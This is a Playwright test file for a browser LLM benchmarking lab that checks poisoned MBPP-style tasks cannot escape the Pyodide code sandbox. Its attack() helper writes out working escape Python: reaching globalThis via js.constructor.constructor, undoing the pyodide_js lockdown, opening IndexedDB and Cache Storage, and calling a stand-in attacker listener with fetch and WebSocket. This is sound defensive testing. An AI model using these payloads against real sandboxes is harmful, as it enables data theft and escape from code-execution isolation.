// A poisoned benchmark through the lab's pipeline, as an attacker would write it: MBPP-style code tasks whose
// asserts (the benchmark file's) or whose model answers (the provider's) try to leave the code sandbox: reach
// JavaScript's global object (js.constructor.constructor), undo the lockdown (`del sys.modules['pyodide_js']`) and
// open IndexedDB through Pyodide's IDBFS, open Cache Storage (where the service worker keeps the app), and send a
// request to a listener of the attacker's. On a static host (only the page's <meta> policy) and under the preview
// server's header policy: no request reaches the listener, no database or cache appears, and the lab scores those
// answers 0 while an honest answer still scores 1.
import { test, expect, type Page } from '@playwright/test';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { startTestServer, type TestServer } from '../test-server/server.ts';
import { BenchmarkFixture } from '../test-server/benchmark-fixture.ts';
import { addTestProvider } from './app-helpers.ts';
import { serveStatic } from './static-host.ts';
import { siteConfig, stampSite } from '../src/platform/node/deploy-stamp.ts';

const MODEL = 'coder';
let listener: Server;
let listenerUrl = '';
const hits: string[] = [];
let server: TestServer;

/** Python that tries every way out it knows; it "passes" only if one of them did not throw. */
function attack(tag: string): string {
  return [
    'import sys',
    'escaped = []',
    'def attempt(name, step):',
    '    try:',
    '        step()',
    '        escaped.append(name)',
    '    except BaseException:',
    '        pass',
    'def global_object():',
    '    import js',
    '    return js.constructor.constructor("return globalThis")()',
    'def loader():',
    '    sys.modules.pop("pyodide_js", None)',
    '    import pyodide_js',
    '    return pyodide_js',
    `attempt("idbfs", lambda: loader()._module.IDBFS.indexedDB().open("pwned-idbfs-${tag}"))`,
    `attempt("loader-global", lambda: loader().constructor.constructor("return globalThis")().fetch("${listenerUrl}/loader-${tag}"))`,
    `attempt("fetch", lambda: global_object().fetch("${listenerUrl}/fetch-${tag}"))`,
    `attempt("indexeddb", lambda: global_object().indexedDB.open("pwned-global-${tag}"))`,
    `attempt("caches", lambda: global_object().caches.open("pwned-cache-${tag}"))`,
    `attempt("websocket", lambda: global_object().WebSocket.new("${listenerUrl.replace('http', 'ws')}/ws-${tag}"))`,
    'assert escaped, "the sandbox held"',
  ].join('\n');
}

interface Task {
  query: string;
  tests: string[];
  answer: string;
  score: number;
}

function tasks(): Task[] {
  const add = 'def add(a, b):\n    return a + b';
  const fenced = (code: string) => `Here is the function:\n\`\`\`python\n${code}\n\`\`\``;
  return [
    {
      query: 'Write a function add(a, b) that returns the sum of two numbers.',
      tests: ['assert add(1, 2) == 3', 'assert add(-1, 1) == 0'],
      answer: fenced(add),
      score: 1,
    },
    {
      query: 'Write a function add(a, b) that adds two integers (poisoned tests).',
      tests: ['assert add(2, 2) == 4', attack('asserts')],
      answer: fenced(add),
      score: 0,
    },
    {
      query: 'Write a function mul(a, b) that multiplies two numbers.',
      tests: ['assert mul(2, 3) == 6'],
      answer: fenced(`${attack('answer')}\ndef mul(a, b):\n    return a * b`),
      score: 0,
    },
  ];
}

function queryFile(list: Task[]): string {
  return (
    list
      .map((t, i) =>
        JSON.stringify({
          task_name: 'mbpp',
          query: t.query,
          ground_truth: JSON.stringify(t.tests),
          metric: 'code_eval',
          task_id: `poison-${i}`,
        }),
      )
      .join('\n') + '\n'
  );
}

test.beforeAll(async () => {
  listener = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.end('ok');
  });
  listener.on('upgrade', (req, socket) => {
    hits.push(req.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done));
  listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  server = await startTestServer({
    fixture: new BenchmarkFixture({ entries: tasks().map((t) => ({ model: MODEL, match: t.query, answer: t.answer, score: t.score })) }),
  });
});
test.afterAll(() => {
  listener?.close();
  server?.close();
});

/** Database names and cache names the page's origin has (but the service worker's cache of Pyodide's files, the app's own). */
function storage(page: Page) {
  return page.evaluate(async () => ({
    databases: (await indexedDB.databases()).map((d) => d.name).sort(),
    caches: (await caches.keys()).filter((name) => name !== 'pyodide').sort(),
  }));
}

/** The stored result of each pair: query id and score. */
function scores(page: Page) {
  return page.evaluate(
    () =>
      new Promise<Record<string, number | undefined>>((done, fail) => {
        const open = indexedDB.open('llmrouter-web');
        open.onerror = () => fail(open.error);
        open.onsuccess = () => {
          const get = open.result.transaction('pipeline').objectStore('pipeline').getAll(IDBKeyRange.bound('result/', 'result/\uffff'));
          get.onsuccess = () =>
            done(Object.fromEntries(get.result.map((r: { value: { id: string; score?: number } }) => [r.value.id, r.value.score])));
        };
      }),
  );
}

async function runPoisonedBenchmark(page: Page) {
  await addTestProvider(page, server, [[MODEL, '1', '2']]);
  await page.getByRole('tab', { name: 'Lab' }).click();
  await page.getByLabel('Queries per task').fill('5');
  await page
    .getByLabel('Benchmark queries')
    .setInputFiles({ name: 'poisoned.jsonl', mimeType: 'application/jsonl', buffer: Buffer.from(queryFile(tasks())) });
  await expect(page.getByLabel('Sampled queries')).toContainText('3 queries over 1 tasks', { timeout: 30_000 });
  await page.getByRole('group', { name: 'Models to run' }).getByRole('checkbox', { name: MODEL }).check();
  const before = await storage(page);
  await page.getByRole('button', { name: 'Start run' }).click();
  await expect(page.getByLabel('Generation status')).toContainText('complete', { timeout: 240_000 });
  const stored = await scores(page);
  // A last background request has had the time the page took to read IndexedDB; the storage is read again after.
  expect(await storage(page)).toEqual(before);
  expect(hits).toEqual([]);
  expect(Object.values(stored).sort()).toEqual(
    tasks()
      .map((t) => t.score)
      .sort(),
  );
  await expect(page.getByLabel('Generation status')).toContainText('3/3 done, 0 failed');
}

test('a poisoned benchmark cannot leave the code sandbox on a static host (meta policy only)', async ({ page }) => {
  test.setTimeout(300_000);
  const site = mkdtempSync(join(tmpdir(), 'llmrouter-site-'));
  cpSync(resolve('dist'), site, { recursive: true });
  writeFileSync(join(site, 'llmrouter.config.json'), JSON.stringify({ connectOrigins: [server.url] }));
  // The built page's policy is final: the deployer re-stamps the site to admit the provider (as npm run csp:stamp).
  stampSite(site, siteConfig(site));
  const host = await serveStatic(site, '/app/');
  try {
    await page.goto(host.url);
    await runPoisonedBenchmark(page);
  } finally {
    await host.close();
    rmSync(site, { recursive: true, force: true });
  }
});

test('a poisoned benchmark cannot leave the code sandbox under the header policy', async ({ page }) => {
  test.setTimeout(300_000);
  await page.goto('./');
  await runPoisonedBenchmark(page);
});
